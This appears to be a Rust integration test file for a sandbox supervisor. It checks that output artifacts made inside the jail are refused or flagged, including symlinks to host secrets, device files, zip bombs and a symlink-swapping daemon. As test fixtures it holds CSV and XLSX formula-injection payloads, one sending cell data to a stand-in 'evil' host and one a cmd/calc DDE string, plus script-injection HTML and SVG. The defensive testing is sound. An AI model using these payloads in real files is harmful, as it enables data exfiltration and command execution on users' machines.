@@ -1,0 +1,634 @@
+//! Artifacts (issue 5): every case is made by a script inside the jail, and
+//! the supervisor, outside it and after the tree is dead, must refuse what is
+//! hostile, flag what is risky and describe what it accepts.
+
+use std::collections::BTreeMap;
+use std::os::unix::fs::{MetadataExt, PermissionsExt};
+use std::path::{Path, PathBuf};
+use std::time::Duration;
+
+use jail::result::{Artifact, Change, FlagKind, RejectReason, RunResult, Summary};
+use jail_tests::*;
+
+/// Run with the default policy's `artifacts` section changed by `rules`.
+fn with_rules(sb: &mut Sandbox, rules: serde_json::Value) {
+    let text = std::fs::read_to_string(repo().join("policies/default.json")).unwrap();
+    let mut policy: serde_json::Value = serde_json::from_str(&text).unwrap();
+    policy.as_object_mut().unwrap().remove("rootfs");
+    for (k, v) in rules.as_object().unwrap() {
+        policy["artifacts"][k] = v.clone();
+    }
+    let path = sb.dir.path().join("policy.json");
+    std::fs::write(&path, serde_json::to_string(&policy).unwrap()).unwrap();
+    sb.extra_args.extend(["--policy".to_string(), path.display().to_string()]);
+}
+
+fn run_ok(sb: &Sandbox, source: &str) -> (RunResult, std::process::Output) {
+    let (r, out) = sb.run(source);
+    assert_eq!(r.status, Status::Ok, "{}\n{}", r.stderr.text, String::from_utf8_lossy(&out.stderr));
+    (r, out)
+}
+
+fn rejected(r: &RunResult) -> BTreeMap<String, RejectReason> {
+    r.rejected_artifacts.iter().map(|x| (x.path.clone(), x.reason)).collect()
+}
+
+fn artifact<'a>(r: &'a RunResult, path: &str) -> &'a Artifact {
+    r.artifacts
+        .iter()
+        .find(|a| a.path == path)
+        .unwrap_or_else(|| panic!("no artifact {path}: {:?}\nrejected: {:?}", r.artifacts, r.rejected_artifacts))
+}
+
+fn flag_count(a: &Artifact, kind: FlagKind) -> u64 {
+    a.flags.iter().filter(|f| f.kind == kind).map(|f| f.count).sum()
+}
+
+fn stage(r: &RunResult, name: &str) -> f64 {
+    *r.timings.stages.get(name).unwrap_or_else(|| panic!("no stage {name}: {:?}", r.timings.stages))
+}
+
+/// A world-readable secret in a host folder the jail is not given.
+struct Secret {
+    _dir: tempfile::TempDir,
+    path: PathBuf,
+    canary: String,
+}
+
+fn plant_secret() -> Secret {
+    let dir = tempfile::Builder::new().prefix("jail-secret-").tempdir().unwrap();
+    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
+    let canary = format!("canary-artifact-secret-{}", std::process::id());
+    let path = dir.path().join("secret.txt");
+    std::fs::write(&path, format!("{canary}\n")).unwrap();
+    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o644)).unwrap();
+    Secret { _dir: dir, path, canary }
+}
+
+/// Python helpers, standard library only: a PNG with zlib and struct, and
+/// minimal OOXML packages with zipfile.
+const PY_FILES: &str = r#"
+import os, struct, zipfile, zlib
+from xml.sax.saxutils import escape
+
+def png(w, h):
+    raw = b"".join(b"\x00" + b"\xff\x00\x00" * w for _ in range(h))
+    def chunk(t, d):
+        return struct.pack(">I", len(d)) + t + d + struct.pack(">I", zlib.crc32(t + d) & 0xffffffff)
+    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0))
+            + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b""))
+
+NS_CT = "http://schemas.openxmlformats.org/package/2006/content-types"
+NS_REL = "http://schemas.openxmlformats.org/package/2006/relationships"
+NS_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+NS_SS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
+NS_P = "http://schemas.openxmlformats.org/presentationml/2006/main"
+NS_A = "http://schemas.openxmlformats.org/drawingml/2006/main"
+
+def types(overrides):
+    return (f'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="{NS_CT}">'
+            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
+            '<Default Extension="xml" ContentType="application/xml"/>'
+            + "".join(f'<Override PartName="{p}" ContentType="{t}"/>' for p, t in overrides) + "</Types>")
+
+def rels(items):
+    return (f'<?xml version="1.0"?><Relationships xmlns="{NS_REL}">'
+            + "".join(f'<Relationship Id="{i}" Type="{NS_R}/{t}" Target="{target}"/>' for i, t, target in items)
+            + "</Relationships>")
+
+def write_xlsx(path, sheets, shared):
+    """sheets: [(name, sheetData xml, dimension or None)]; shared: [str]."""
+    ov = [("/xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml")]
+    ov += [(f"/xl/worksheets/sheet{i+1}.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml") for i in range(len(sheets))]
+    wb = (f'<?xml version="1.0"?><workbook xmlns="{NS_SS}" xmlns:r="{NS_R}"><sheets>'
+          + "".join(f'<sheet name="{escape(n)}" sheetId="{i+1}" r:id="rId{i+1}"/>' for i, (n, _, _) in enumerate(sheets))
+          + "</sheets></workbook>")
+    wbrels = [(f"rId{i+1}", "worksheet", f"worksheets/sheet{i+1}.xml") for i in range(len(sheets))]
+    wbrels.append((f"rId{len(sheets)+1}", "sharedStrings", "sharedStrings.xml"))
+    sst = (f'<?xml version="1.0"?><sst xmlns="{NS_SS}">'
+           + "".join(f"<si><t>{escape(s)}</t></si>" for s in shared) + "</sst>")
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
+        z.writestr("[Content_Types].xml", types(ov))
+        z.writestr("_rels/.rels", rels([("rId1", "officeDocument", "xl/workbook.xml")]))
+        z.writestr("xl/workbook.xml", wb)
+        z.writestr("xl/_rels/workbook.xml.rels", rels(wbrels))
+        z.writestr("xl/sharedStrings.xml", sst)
+        for i, (_, data, dim) in enumerate(sheets):
+            d = f'<dimension ref="{dim}"/>' if dim else ""
+            z.writestr(f"xl/worksheets/sheet{i+1}.xml",
+                       f'<?xml version="1.0"?><worksheet xmlns="{NS_SS}">{d}<sheetData>{data}</sheetData></worksheet>')
+
+def write_pptx(path, titles):
+    """titles: one per slide in presentation order (None: no title). Slide
+    files are numbered backwards so that only the slide list gives the order."""
+    n = len(titles)
+    ov = [("/ppt/presentation.xml", "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml")]
+    ov += [(f"/ppt/slides/slide{i+1}.xml", "application/vnd.openxmlformats-officedocument.presentationml.slide+xml") for i in range(n)]
+    pres = (f'<?xml version="1.0"?><p:presentation xmlns:p="{NS_P}" xmlns:r="{NS_R}"><p:sldIdLst>'
+            + "".join(f'<p:sldId id="{256+i}" r:id="rId{i+1}"/>' for i in range(n)) + "</p:sldIdLst></p:presentation>")
+    prels = [(f"rId{i+1}", "slide", f"slides/slide{n-i}.xml") for i in range(n)]
+    def shape(ph, text):
+        return (f'<p:sp><p:nvSpPr><p:cNvPr id="2" name="s"/><p:cNvSpPr/><p:nvPr>{ph}</p:nvPr></p:nvSpPr>'
+                f'<p:txBody><a:p><a:r><a:t>{escape(text)}</a:t></a:r></a:p></p:txBody></p:sp>')
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
+        z.writestr("[Content_Types].xml", types(ov))
+        z.writestr("_rels/.rels", rels([("rId1", "officeDocument", "ppt/presentation.xml")]))
+        z.writestr("ppt/presentation.xml", pres)
+        z.writestr("ppt/_rels/presentation.xml.rels", rels(prels))
+        for i, title in enumerate(titles):
+            body = shape('<p:ph type="body" idx="1"/>', "body text")
+            if title is not None:
+                kind = "ctrTitle" if i == 0 else "title"
+                body = shape(f'<p:ph type="{kind}"/>', title) + body
+            z.writestr(f"ppt/slides/slide{n-i}.xml",
+                       f'<?xml version="1.0"?><p:sld xmlns:a="{NS_A}" xmlns:p="{NS_P}"><p:cSld><p:spTree>{body}</p:spTree></p:cSld></p:sld>')
+"#;
+
+#[test]
+fn symlink_to_a_host_secret_is_refused_and_its_content_never_appears() {
+    let sb = Sandbox::new();
+    let secret = plant_secret();
+    // A hard link to the secret, left in the output dir before the run.
+    std::fs::hard_link(&secret.path, sb.output.join("hard.txt")).unwrap();
+    let host = secret.path.display().to_string();
+    let host_dir = secret.path.parent().unwrap().display().to_string();
+    let (r, out) = run_ok(
+        &sb,
+        &format!(
+            r#"
+import os
+os.symlink({host:?}, "secret.txt")
+os.symlink({host_dir:?}, "secrets")
+os.makedirs("sub")
+os.symlink({host:?}, "sub/report.csv")
+os.symlink("../../../../../../../.." + {host:?}, "rel.txt")
+open("ok.txt", "w").write("fine\n")
+"#
+        ),
+    );
+    let rej = rejected(&r);
+    for link in ["secret.txt", "secrets", "sub/report.csv", "rel.txt"] {
+        assert_eq!(rej.get(link), Some(&RejectReason::Symlink), "{link}: {:?}", r.rejected_artifacts);
+    }
+    assert_eq!(rej.get("hard.txt"), Some(&RejectReason::HardLink));
+    let paths: Vec<&str> = r.artifacts.iter().map(|a| a.path.as_str()).collect();
+    assert_eq!(paths, ["ok.txt"]);
+    let all = format!("{}{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr));
+    assert!(!all.contains(&secret.canary), "the secret leaked into the result");
+}
+
+#[test]
+fn special_files_bad_names_set_id_bits_and_other_extensions_are_refused() {
+    let sb = Sandbox::new();
+    if is_root() {
+        // A jail cannot make a device node (see `mknod` below); one left in
+        // the output dir by the host must be refused all the same.
+        nix::sys::stat::mknod(
+            &sb.output.join("null.csv"),
+            nix::sys::stat::SFlag::S_IFCHR,
+            nix::sys::stat::Mode::from_bits_truncate(0o666),
+            nix::sys::stat::makedev(1, 3),
+        )
+        .unwrap();
+    }
+    let (r, _) = run_ok(
+        &sb,
+        r#"
+import json, os, socket, stat
+os.mkfifo("pipe.csv")
+s = socket.socket(socket.AF_UNIX); s.bind("sock.csv")
+for name in ["..hidden.txt", "-rf.txt", "esc\x1b[2J.txt", "rtl\u202egnp.txt", "a\\b.txt", "n" * 200 + ".txt",
+             "tool.exe", "noext", "suid.txt", "a.txt", "ok.csv"]:
+    open(name, "w").write("a,b\n1,2\n")
+os.close(os.open(b"\xff\xfe.txt", os.O_CREAT | os.O_WRONLY))
+os.chmod("suid.txt", 0o4755)
+os.link("a.txt", "b.txt")
+try:
+    os.mknod("dev.csv", 0o666 | stat.S_IFCHR, os.makedev(1, 3))
+    made = "made"
+except OSError as e:
+    made = type(e).__name__
+print(json.dumps({"mknod": made}))
+"#,
+    );
+    assert!(r.stdout.text.contains("PermissionError"), "{}", r.stdout.text);
+    let rej = rejected(&r);
+    let expect = [
+        ("pipe.csv", RejectReason::Fifo),
+        ("sock.csv", RejectReason::Socket),
+        ("..hidden.txt", RejectReason::BadName),
+        ("-rf.txt", RejectReason::BadName),
+        ("esc\\x1b[2J.txt", RejectReason::BadName),
+        ("rtl\\u{202e}gnp.txt", RejectReason::BadName),
+        ("a\\\\b.txt", RejectReason::BadName),
+        ("\\xff\\xfe.txt", RejectReason::BadName),
+        ("tool.exe", RejectReason::ExtensionNotAllowed),
+        ("noext", RejectReason::ExtensionNotAllowed),
+        ("suid.txt", RejectReason::SetId),
+        ("a.txt", RejectReason::HardLink),
+        ("b.txt", RejectReason::HardLink),
+    ];
+    for (path, reason) in expect {
+        assert_eq!(rej.get(path), Some(&reason), "{path}: {:?}", r.rejected_artifacts);
+    }
+    assert_eq!(rej.get(&format!("{}.txt", "n".repeat(200))), Some(&RejectReason::NameTooLong));
+    if is_root() {
+        assert_eq!(rej.get("null.csv"), Some(&RejectReason::Device));
+    }
+    for x in &r.rejected_artifacts {
+        assert!(!x.path.chars().any(|c| c.is_control() || c == '\u{202e}'), "unescaped path {:?}", x.path);
+    }
+    let paths: Vec<&str> = r.artifacts.iter().map(|a| a.path.as_str()).collect();
+    assert_eq!(paths, ["ok.csv"]);
+}
+
+#[test]
+fn huge_deep_and_wide_trees_are_refused_in_bounded_time() {
+    let mut sb = Sandbox::new();
+    // A folder is refused after reading max_dir_entries + 1 names, however
+    // many it has; a small cap keeps the script that fills it quick.
+    with_rules(&mut sb, serde_json::json!({"max_dir_entries": 100}));
+    let (r, out) = run_ok(
+        &sb,
+        r#"
+import os
+os.makedirs("wide")
+for i in range(1000):
+    open(f"wide/{i}.txt", "w").close()
+with open("sparse.csv", "wb") as f:
+    f.truncate(1 << 40)
+os.mkdir("deep"); os.chdir("deep")
+for i in range(4096):
+    os.mkdir("d"); os.chdir("d")
+"#,
+    );
+    let rej = rejected(&r);
+    assert_eq!(rej.get("wide"), Some(&RejectReason::TooWide), "{:?}", r.rejected_artifacts);
+    assert_eq!(rej.get("sparse.csv"), Some(&RejectReason::TooLarge));
+    let deep_cut = format!("deep{}", "/d".repeat(15));
+    assert_eq!(rej.get(&deep_cut), Some(&RejectReason::TooDeep), "{:?}", r.rejected_artifacts);
+    assert!(r.artifacts.is_empty(), "{:?}", r.artifacts);
+    let ms = stage(&r, "artifacts") - stage(&r, "artifacts_start");
+    assert!(ms < 1500.0, "collection took {ms} ms");
+    assert!(out.stdout.len() < 64 << 10, "result is {} bytes", out.stdout.len());
+    // GNU rm walks a 4096-deep tree without running out of descriptors.
+    let _ = std::process::Command::new("rm").arg("-rf").arg(sb.output.join("deep")).status();
+}
+
+#[test]
+fn counts_and_sizes_past_the_policy_caps_are_refused() {
+    let mut sb = Sandbox::new();
+    with_rules(&mut sb, serde_json::json!({"max_entries": 300, "max_dir_entries": 300, "max_files": 20, "max_file_bytes": 1000, "max_total_bytes": 1500}));
+    let (r, _) = run_ok(
+        &sb,
+        r#"
+import os
+for d in range(4):
+    os.makedirs(f"m{d}")
+    for i in range(100):
+        open(f"m{d}/{i:03}.txt", "w").write("x")
+open("big.txt", "w").write("y" * 1001)
+open("edge.txt", "w").write("y" * 1000)
+open("t1.txt", "w").write("z" * 800)
+"#,
+    );
+    let rej = rejected(&r);
+    assert_eq!(rej.get("big.txt"), Some(&RejectReason::TooLarge), "{:?}", r.rejected_artifacts);
+    assert_eq!(rej.get("t1.txt"), Some(&RejectReason::TotalTooLarge));
+    assert_eq!(rej.get("m0/019.txt"), Some(&RejectReason::TooManyFiles));
+    assert!(r.rejected_artifacts.iter().any(|x| x.reason == RejectReason::TooManyEntries));
+    assert_eq!(r.rejected_artifacts.last().unwrap().reason, RejectReason::TooManyRejected);
+    assert_eq!(r.artifacts.len(), 20);
+    assert_eq!(artifact(&r, "edge.txt").bytes, 1000);
+    assert_eq!(artifact(&r, "m0/018.txt").bytes, 1);
+}
+
+const FORMULA_CSV: &str = r#"
+import csv, os
+with open("report.csv", "w", newline="") as f:
+    w = csv.writer(f)
+    w.writerow(["name", "note", "delta"])
+    w.writerow(["ada", '=HYPERLINK("http://evil/?"&A1,"x")', "-3.5"])
+    w.writerow(["bob", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3"])
+    w.writerow(["eve", "+1", "ok"])
+open("t.tsv", "w").write("a\tb\n1\t=1+1\n")
+open("clean.csv", "w").write("a,b\n-1,2\n")
+"#;
+
+#[test]
+fn formula_injected_csv_is_flagged_and_left_alone_by_default() {
+    let sb = Sandbox::new();
+    let (r, _) = run_ok(&sb, FORMULA_CSV);
+    let report = artifact(&r, "report.csv");
+    assert_eq!(flag_count(report, FlagKind::FormulaInjection), 3, "{:?}", report.flags);
+    let flag = report.flags.iter().find(|f| f.kind == FlagKind::FormulaInjection).unwrap();
+    assert_eq!(flag.locations, ["row 2, column 2", "row 3, column 2", "row 3, column 3"]);
+    assert!(!flag.detail.contains("HYPERLINK"), "flags never quote the cell");
+    assert_eq!(flag_count(artifact(&r, "t.tsv"), FlagKind::FormulaInjection), 1);
+    assert!(artifact(&r, "clean.csv").flags.is_empty());
+    assert_eq!(report.sanitized_copy, None);
+    assert!(!sb.output.join("report.sanitized.csv").exists());
+}
+
+#[test]
+fn formula_injected_csv_gets_a_sanitised_copy_when_the_policy_says_so() {
+    let mut sb = Sandbox::new();
+    with_rules(&mut sb, serde_json::json!({"formula_cells": "sanitize"}));
+    // The script also plants a link where the copy will go: it must be
+    // replaced, never written through.
+    let (r, _) = run_ok(&sb, &format!("{FORMULA_CSV}\nos.symlink('/etc/passwd', 't.sanitized.tsv')\n"));
+    let report = artifact(&r, "report.csv");
+    assert_eq!(report.sanitized_copy.as_deref(), Some("report.sanitized.csv"));
+    let copy = artifact(&r, "report.sanitized.csv");
+    assert_eq!(copy.sanitized_from.as_deref(), Some("report.csv"));
+    assert_eq!(copy.change, Change::Created);
+    assert!(copy.flags.is_empty(), "{:?}", copy.flags);
+    let text = std::fs::read_to_string(sb.output.join("report.sanitized.csv")).unwrap();
+    assert_eq!(
+        text,
+        "name,note,delta\r\nada,\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\",-3.5\r\nbob,'@SUM(1+1)*cmd|' /C calc'!A0,'-2+3\r\neve,+1,ok\r\n"
+    );
+    assert_eq!(copy.sha256.as_deref(), Some(jail::digest::sha256_hex(text.as_bytes()).as_str()));
+    let tsv = sb.output.join("t.sanitized.tsv");
+    assert!(std::fs::symlink_metadata(&tsv).unwrap().file_type().is_file());
+    assert_eq!(std::fs::read_to_string(&tsv).unwrap(), "a\tb\n1\t'=1+1\n");
+    assert_eq!(artifact(&r, "clean.csv").sanitized_copy, None);
+    assert!(!r.rejected_artifacts.iter().any(|x| x.path == "t.sanitized.tsv"), "{:?}", r.rejected_artifacts);
+}
+
+#[test]
+fn xlsx_formulas_and_formula_strings_are_flagged() {
+    let sb = Sandbox::new();
+    let (r, _) = run_ok(
+        &sb,
+        &format!(
+            r#"{PY_FILES}
+data = ('<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c></row>'
+        '<row r="2"><c r="A2"><f>SUM(B1:B9)</f><v>3</v></c><c r="B2" t="inlineStr"><is><t>@cmd</t></is></c>'
+        '<c r="C2" t="s"><v>2</v></c><c r="D2" t="s"><v>3</v></c></row>')
+write_xlsx("book.xlsx", [("Data", data, "A1:D2")], ["name", '=WEBSERVICE("http://x")', "-2+3", "-4.5"])
+"#
+        ),
+    );
+    let book = artifact(&r, "book.xlsx");
+    let flag = book.flags.iter().find(|f| f.kind == FlagKind::FormulaInjection).unwrap_or_else(|| panic!("{:?}", book.flags));
+    assert_eq!(flag.count, 4, "{flag:?}");
+    assert_eq!(flag.locations, ["Data!B1", "Data!A2", "Data!B2", "Data!C2"]);
+}
+
+#[test]
+fn script_in_html_and_svg_is_flagged() {
+    let sb = Sandbox::new();
+    let (r, _) = run_ok(
+        &sb,
+        r#"
+open("page.html", "w").write("<!doctype html><p>hi</p>\n<script>fetch('http://x')</script>")
+open("icon.svg", "w").write('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="alert(1)"/>')
+open("link.svg", "w").write('<svg xmlns="http://www.w3.org/2000/svg"><a href="javascript:alert(1)"><text>x</text></a></svg>')
+open("clean.svg", "w").write('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="5" height="5"/></svg>')
+"#,
+    );
+    for (path, n) in [("page.html", 1), ("icon.svg", 1), ("link.svg", 1), ("clean.svg", 0)] {
+        assert_eq!(flag_count(artifact(&r, path), FlagKind::Script), n, "{path}: {:?}", artifact(&r, path).flags);
+    }
+}
+
+#[test]
+fn summaries_describe_csv_png_pptx_xlsx_and_friends() {
+    let sb = Sandbox::new();
+    let (r, _) = run_ok(
+        &sb,
+        &format!(
+            r#"{PY_FILES}
+import json
+open("scores.csv", "w").write("name,score\nada,3\nbob,4\n")
+open("chart.png", "wb").write(png(7, 3))
+open("looks.csv", "wb").write(png(2, 2))
+write_pptx("deck.pptx", ["Quarterly anomalies", None, "Next steps"])
+write_xlsx("book.xlsx", [
+    ("Data", '<row r="1"><c r="A1" t="s"><v>0</v></c></row><row r="4"><c r="C4"><v>1</v></c></row>', "A1:C4"),
+    ("Notes & more", '<row r="2"><c r="B2"><v>2</v></c></row>', None),
+], ["name"])
+json.dump({{"b": 1, "a": [1, 2]}}, open("data.json", "w"))
+open("notes.md", "w").write('# Title\nsecond line\nthird\n')
+open("plot.svg", "w").write('<svg xmlns="http://www.w3.org/2000/svg" width="120" height="80px"/>')
+"#
+        ),
+    );
+    let csv = artifact(&r, "scores.csv");
+    assert_eq!(csv.media_type.as_deref(), Some("text/csv"));
+    assert_eq!(csv.summary, Some(Summary::Csv { rows: 3, columns: 2, header: vec!["name".into(), "score".into()] }));
+    let png = artifact(&r, "chart.png");
+    assert_eq!(png.media_type.as_deref(), Some("image/png"));
+    assert_eq!(png.summary, Some(Summary::Image { width: 7, height: 3 }));
+    // The type comes from the content, and the name's claim is flagged.
+    let fake = artifact(&r, "looks.csv");
+    assert_eq!(fake.media_type.as_deref(), Some("image/png"));
+    assert_eq!(flag_count(fake, FlagKind::MediaTypeMismatch), 1);
+    let deck = artifact(&r, "deck.pptx");
+    assert_eq!(deck.media_type.as_deref(), Some("application/vnd.openxmlformats-officedocument.presentationml.presentation"));
+    assert_eq!(
+        deck.summary,
+        Some(Summary::Pptx {
+            slides: 3,
+            titles: vec![Some("Quarterly anomalies".into()), None, Some("Next steps".into())],
+            partial: false
+        })
+    );
+    let book = artifact(&r, "book.xlsx");
+    assert_eq!(book.media_type.as_deref(), Some("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"));
+    let Some(Summary::Xlsx { sheets, partial: false }) = &book.summary else { panic!("{:?}", book.summary) };
+    let sheets: Vec<_> = sheets.iter().map(|s| (s.name.as_str(), s.dimension.as_deref(), s.rows, s.columns)).collect();
+    assert_eq!(sheets, [("Data", Some("A1:C4"), 4, 3), ("Notes & more", None, 2, 2)]);
+    assert!(book.flags.is_empty(), "{:?}", book.flags);
+    assert_eq!(
+        artifact(&r, "data.json").summary,
+        Some(Summary::Json { top_level: "object".into(), length: Some(2), keys: vec!["a".into(), "b".into()], partial: false })
+    );
+    assert_eq!(
+        artifact(&r, "notes.md").summary,
+        Some(Summary::Text { lines: 3, first_lines: vec!["# Title".into(), "second line".into(), "third".into()] })
+    );
+    assert_eq!(artifact(&r, "plot.svg").summary, Some(Summary::Svg { width: Some(120.0), height: Some(80.0) }));
+    for a in &r.artifacts {
+        assert_eq!(a.change, Change::Created);
+        let bytes = std::fs::read(sb.output.join(&a.path)).unwrap();
+        assert_eq!(a.bytes, bytes.len() as u64);
+        assert_eq!(a.sha256.as_deref(), Some(jail::digest::sha256_hex(&bytes).as_str()), "{}", a.path);
+    }
+}
+
+#[test]
+fn a_zip_bomb_sheet_is_read_only_up_to_the_cap() {
+    let sb = Sandbox::new();
+    let (r, _) = run_ok(
+        &sb,
+        &format!(
+            r#"{PY_FILES}
+row = '<row r="1"><c r="A1"><v>1</v></c></row>'
+write_xlsx("bomb.xlsx", [("Big", row * 1_200_000, "A1:A1")], ["x"])
+"#
+        ),
+    );
+    let bomb = artifact(&r, "bomb.xlsx");
+    assert_eq!(flag_count(bomb, FlagKind::IncompleteScan), 1, "{:?}", bomb.flags);
+    assert!(bomb.bytes < 1 << 20, "the test bomb should be small on disk: {}", bomb.bytes);
+    let ms = stage(&r, "artifacts") - stage(&r, "artifacts_start");
+    assert!(ms < 5000.0, "collection took {ms} ms");
+}
+
+#[test]
+fn created_modified_unchanged_and_deleted_are_told_apart_on_a_prefilled_output() {
+    let sb = Sandbox::new();
+    std::fs::create_dir(sb.output.join("sub")).unwrap();
+    for name in ["keep.txt", "edit.txt", "forged.txt", "gone.txt", "sub/old.txt"] {
+        let p = sb.output.join(name);
+        std::fs::write(&p, "v1\n").unwrap();
+        if is_root() {
+            std::os::unix::fs::chown(&p, Some(sandbox_host_uid()), Some(sandbox_host_uid())).unwrap();
+        }
+    }
+    if is_root() {
+        std::os::unix::fs::chown(sb.output.join("sub"), Some(sandbox_host_uid()), Some(sandbox_host_uid())).unwrap();
+    }
+    let (r, _) = run_ok(
+        &sb,
+        r#"
+import os
+open("edit.txt", "a").write("v2\n")
+st = os.stat("forged.txt")
+open("forged.txt", "w").write("v2\n")
+os.utime("forged.txt", ns=(st.st_atime_ns, st.st_mtime_ns))
+os.remove("gone.txt")
+os.remove("sub/old.txt")
+open("new.txt", "w").write("n\n")
+"#,
+    );
+    let changes: BTreeMap<&str, Change> = r.artifacts.iter().map(|a| (a.path.as_str(), a.change)).collect();
+    let expect = BTreeMap::from([
+        ("keep.txt", Change::Unchanged),
+        ("edit.txt", Change::Modified),
+        ("forged.txt", Change::Modified),
+        ("gone.txt", Change::Deleted),
+        ("sub/old.txt", Change::Deleted),
+        ("new.txt", Change::Created),
+    ]);
+    assert_eq!(changes, expect);
+    let gone = artifact(&r, "gone.txt");
+    assert_eq!((gone.bytes, gone.sha256.as_deref(), gone.media_type.as_deref()), (3, None, None));
+}
+
+#[test]
+fn collection_starts_only_after_the_whole_tree_is_dead() {
+    let sb = Sandbox::new();
+    let secret = plant_secret();
+    let marker = format!("jail-swapper-{}", std::process::id());
+    let host = secret.path.display().to_string();
+    // A daemon that keeps swapping swap.txt between a file and a link to the
+    // secret, immune to SIGTERM and SIGHUP, outliving the script.
+    let (r, out) = run_ok(
+        &sb,
+        &format!(
+            r#"
+import os, sys, time
+code = '''
+import os, signal
+signal.signal(signal.SIGTERM, signal.SIG_IGN)
+signal.signal(signal.SIGHUP, signal.SIG_IGN)
+os.setsid()
+i = 0
+while True:
+    try:
+        os.symlink({host:?}, "swap.tmp")
+    except FileExistsError:
+        pass
+    os.replace("swap.tmp", "swap.txt")
+    with open("swap.tmp", "w") as f:
+        f.write("plain %d" % i)
+    os.replace("swap.tmp", "swap.txt")
+    i += 1
+    with open("beat.txt", "w") as f:
+        f.write(str(i))
+'''
+if os.fork() == 0:
+    os.execv(sys.executable, [sys.executable, "-c", code, {marker:?}])
+while not os.path.exists("beat.txt"):
+    time.sleep(0.001)
+time.sleep(0.05)
+"#
+        ),
+    );
+    // The supervisor reaped PID 1 (so the namespace was empty) before it
+    // looked at the output dir.
+    assert!(stage(&r, "reaped") <= stage(&r, "artifacts_start"), "{:?}", r.timings.stages);
+    for x in &r.rejected_artifacts {
+        assert!(matches!(x.reason, RejectReason::Symlink), "{x:?}");
+    }
+    let swap_seen = r.artifacts.iter().any(|a| a.path == "swap.txt") || rejected(&r).contains_key("swap.txt");
+    assert!(swap_seen, "{:?} {:?}", r.artifacts, r.rejected_artifacts);
+    assert!(!String::from_utf8_lossy(&out.stdout).contains(&secret.canary));
+    // Nothing is left running to change the dir after the result.
+    assert!(host_processes_with(&marker).is_empty());
+    let beat = std::fs::read_to_string(sb.output.join("beat.txt")).unwrap();
+    let swap = std::fs::symlink_metadata(sb.output.join("swap.txt")).unwrap();
+    std::thread::sleep(Duration::from_millis(100));
+    assert_eq!(std::fs::read_to_string(sb.output.join("beat.txt")).unwrap(), beat);
+    let swap_now = std::fs::symlink_metadata(sb.output.join("swap.txt")).unwrap();
+    assert_eq!((swap.ino(), swap.ctime_nsec()), (swap_now.ino(), swap_now.ctime_nsec()));
+    // And what the result says about swap.txt is what is there now.
+    match r.artifacts.iter().find(|a| a.path == "swap.txt") {
+        Some(a) => {
+            let bytes = std::fs::read(sb.output.join("swap.txt")).unwrap();
+            assert!(!swap_now.file_type().is_symlink());
+            assert_eq!(a.sha256.as_deref(), Some(jail::digest::sha256_hex(&bytes).as_str()));
+        }
+        None => assert!(swap_now.file_type().is_symlink()),
+    }
+}
+
+#[test]
+fn input_is_digested_before_and_after_and_reported_unchanged() {
+    let sb = Sandbox::new();
+    sb.input_file("data.csv", b"a,b\n1,2\n");
+    sb.input_file("notes.txt", b"hello\n");
+    let (r, _) = run_ok(
+        &sb,
+        r#"
+try:
+    open("/workspace/input/data.csv", "a").write("x")
+except OSError as e:
+    print(type(e).__name__)
+"#,
+    );
+    assert!(r.stdout.text.contains("OSError") || r.stdout.text.contains("PermissionError"), "{}", r.stdout.text);
+    let input = r.input.as_ref().expect("an input report");
+    assert!(input.unchanged);
+    assert_eq!(input.sha256_before, input.sha256_after);
+    assert_eq!((input.files, input.bytes, input.content_hashed, input.complete), (2, 14, true, true));
+    // Without --input there is nothing to report.
+    let mut cmd = std::process::Command::new(jail_bin());
+    cmd.args(["run", "--json", "--rootfs"]).arg(rootfs()).arg("--output").arg(&sb.output).arg(sb.script("print(1)"));
+    let r = parse(&cmd.output().unwrap());
+    assert_eq!(r.status, Status::Ok);
+    assert_eq!(r.input, None);
+}
+
+#[test]
+fn a_fresh_output_dir_is_made_reported_and_collected_when_none_is_given() {
+    let sb = Sandbox::new();
+    let script = sb.script("open('hello.txt', 'w').write('hi\\n')");
+    let out = std::process::Command::new(jail_bin())
+        .args(["run", "--json", "--rootfs"])
+        .arg(rootfs())
+        .arg(script)
+        .output()
+        .unwrap();
+    let r = parse(&out);
+    assert_eq!(r.status, Status::Ok, "{}", r.stderr.text);
+    let dir = PathBuf::from(r.output_dir.clone().expect("output_dir"));
+    let hello = artifact(&r, "hello.txt");
+    assert_eq!(hello.change, Change::Created);
+    assert_eq!(std::fs::read_to_string(dir.join("hello.txt")).unwrap(), "hi\n");
+    assert!(dir.starts_with(std::env::temp_dir()) || Path::new(&dir).exists());
+    std::fs::remove_dir_all(&dir).unwrap();
+}
